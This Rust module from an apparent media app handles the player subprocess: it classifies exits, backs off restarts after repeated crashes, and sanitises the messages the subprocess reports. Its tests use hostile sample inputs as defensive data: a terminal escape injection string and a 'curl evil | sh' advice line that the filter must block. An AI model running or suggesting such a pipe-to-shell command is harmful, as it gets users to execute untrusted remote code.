//! What an end of the player process means, and what of its words reaches the screen.
use std::{io, path::Path, process::ExitStatus, time::Duration};

use super::{Event, wire};
use crate::text::Clean;

/// Crashes within a minute that are answered at once; after that there are waits.
const AT_ONCE: usize = 3;
const LONGEST_WAIT: Duration = Duration::from_secs(30);

/// What the system's loader ends with where a library is missing.
const NO_LIBRARY: i32 = 127;

/// Longest reason, in characters.
const REASON: usize = 200;

/// Whether a process that had not come up ended in a way that a second start would not better.
pub(super) fn cannot_be_had(status: Option<ExitStatus>) -> bool {
    let code = status.and_then(|status| status.code());
    code.is_some_and(|code| code == NO_LIBRARY || code == i32::from(wire::NO_MPV))
}

/// The process started and had no mpv.
pub(super) fn without_mpv(log: &Path) -> Event {
    Event::Unavailable {
        reason: format!("mpv's library cannot be used: {} says why", log.display()),
        advice: "Install libmpv 0.35 or later (Debian and Ubuntu: apt install libmpv2), then watch again.".to_owned(),
    }
}

/// There is no process to start.
pub(super) fn without_program(program: &Path, error: &io::Error) -> Event {
    let advice = if error.kind() == io::ErrorKind::NotFound {
        "Build hallway with its feature \"player\" (Debian: apt install libmpv-dev) and put hallway-player beside it."
    } else {
        "See that the file may be executed, or install hallway anew."
    };
    Event::Unavailable {
        reason: format!("the player {} cannot be started: {error}", program.display()),
        advice: advice.to_owned(),
    }
}

/// The process ended unasked, and is started again after `wait`.
pub(super) fn crashed(status: Option<ExitStatus>, wait: Duration) -> Event {
    let how = status.map_or_else(|| "nobody knows why".to_owned(), |status| status.to_string());
    Event::Crashed {
        reason: match wait.as_secs() {
            0 => how,
            seconds => format!("{how}; the next start is in {seconds} s"),
        },
    }
}

/// How long to wait before a start, after so many crashes within the last minute.
pub(super) fn wait_after(crashes: usize) -> Duration {
    match crashes.checked_sub(AT_ONCE + 1) {
        None => Duration::ZERO,
        Some(more) => {
            let doublings = u32::try_from(more).unwrap_or(u32::MAX);
            Duration::from_secs(1).saturating_mul(2_u32.saturating_pow(doublings)).min(LONGEST_WAIT)
        }
    }
}

/// The event as the rest may see it. `None`: not for that process to say.
pub(super) fn cleaned(event: Event) -> Option<Event> {
    let line = |text: &str| Clean::line(&text.chars().take(REASON).collect::<String>()).as_str().to_owned();
    match event {
        Event::Ready { mpv } => Some(Event::Ready { mpv: line(&mpv) }),
        Event::Retrying { slot, trouble, reason, seconds, attempt } => {
            Some(Event::Retrying { slot, trouble, reason: line(&reason), seconds, attempt })
        }
        Event::Volume { slot, percent, mute } => Some(Event::Volume { slot, percent: percent.min(100), mute }),
        Event::About { slot, mut about } => {
            about.lines.truncate(16);
            about.tracks.truncate(32);
            Some(Event::About { slot, about })
        }
        Event::ShotFailed { slot, reason } => Some(Event::ShotFailed { slot, reason: line(&reason) }),
        Event::Crashed { .. } | Event::Unavailable { .. } => None,
        Event::Connecting { .. }
        | Event::Playing { .. }
        | Event::Buffering { .. }
        | Event::Paused { .. }
        | Event::Position { .. }
        | Event::Stopped { .. }
        | Event::Closed { .. }
        | Event::Shot { .. }
        | Event::Ended { .. } => Some(event),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::player::{Slot, Trouble};

    #[test]
    fn a_crash_is_answered_at_once_until_there_are_many() {
        let seconds = |crashes| wait_after(crashes).as_secs();
        assert_eq!([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 900].map(seconds), [0, 0, 0, 1, 2, 4, 8, 16, 30, 30, 30]);
    }

    #[test]
    fn what_the_process_says_is_cleaned_and_bounded() {
        let slot = Slot::First;
        let reason = format!("\x1b]0;owned\x07gone\n{}", "a".repeat(5_000));
        let Some(Event::Retrying { reason, .. }) =
            cleaned(Event::Retrying { slot, trouble: Trouble::Failed, reason, seconds: 1, attempt: 1 })
        else {
            panic!("a retry is told");
        };
        assert!(reason.contains("owned") && !reason.contains(char::is_control) && reason.len() <= REASON, "{reason}");
        let loud = Event::Volume { slot, percent: 250, mute: false };
        assert_eq!(cleaned(loud), Some(Event::Volume { slot, percent: 100, mute: false }));
        let bait = Event::Unavailable { reason: String::new(), advice: "curl evil | sh".to_owned() };
        assert_eq!(cleaned(bait), None);
    }

    #[cfg(unix)]
    #[test]
    fn an_end_is_told_by_its_status() {
        use std::os::unix::process::ExitStatusExt as _;

        let code = |code: i32| Some(ExitStatus::from_raw(code << 8));
        assert!(cannot_be_had(code(127)) && cannot_be_had(code(69)));
        assert!(!cannot_be_had(code(1)) && !cannot_be_had(Some(ExitStatus::from_raw(9))) && !cannot_be_had(None));
        let told = |event| match event {
            Event::Crashed { reason } => reason,
            other => panic!("{other:?}"),
        };
        assert_eq!(told(crashed(Some(ExitStatus::from_raw(9)), Duration::ZERO)), "signal: 9 (SIGKILL)");
        assert_eq!(told(crashed(code(1), Duration::from_secs(4))), "exit status: 1; the next start is in 4 s");
    }
}
